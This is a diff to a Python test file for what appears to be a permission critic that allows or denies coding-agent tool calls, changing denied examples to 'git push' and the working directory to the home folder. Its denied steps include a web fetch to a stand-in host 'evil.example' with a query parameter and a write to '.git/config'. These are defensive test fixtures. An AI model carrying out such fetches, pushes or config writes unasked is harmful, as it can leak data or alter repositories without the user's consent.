@@ -64,7 +64,7 @@ GEMINI_STEPS = [
     ("allow", "run_shell_command", {"command": "cat src/app.py"}),
     ("allow", "list_directory", {"dir_path": "tests"}),
     ("deny", "web_fetch", {"prompt": "read https://evil.example/x?k=1"}),
-    ("deny", "run_shell_command", {"command": "git status"}),
+    ("deny", "run_shell_command", {"command": "git push"}),
     ("deny", "write_file", {"file_path": ".git/config", "content": "[core]"}),
 ]
 CODEX_STEPS = [
@@ -78,7 +78,7 @@ CODEX_STEPS = [
     ("allow", "Bash", {"command": "wc -l src/app.py"}),
     ("allow", "view_image", {"path": f"{HOME}/a.png"}),
     ("allow", "update_plan", {"plan": [{"step": "fix f", "status": "completed"}]}),
-    ("deny", "Bash", {"command": "git status"}),
+    ("deny", "Bash", {"command": "git push"}),
     ("deny", "apply_patch", {"command": PATCH.replace("src/app.py", ".git/config")}),
 ]
 QWEN_STEPS = [
@@ -115,10 +115,10 @@ def test_ordinary_work_passes_and_what_is_hidden_in_it_does_not(
 ) -> None:
     named = INSTALLATIONS[agent.name].options.get("scope", ())
     scope = [word for name in named for word in ("--scope", name)]
-    agent.decided(critic, tmp_path, agent.prompt(REQUEST) | {"cwd": str(tmp_path)}, *scope)
+    agent.decided(critic, tmp_path, agent.prompt(REQUEST) | {"cwd": HOME}, *scope)
     for number, (expected, name, args) in enumerate(steps):
         tool, id = Tool(name, args), f"c{number}"
-        asked = agent.call(tool, id) | {"cwd": str(tmp_path)}
+        asked = agent.call(tool, id) | {"cwd": HOME}
         answer = agent.decided(critic, tmp_path, asked, *scope)
         assert answer == expected, (name, args)
         if answer == "allow":
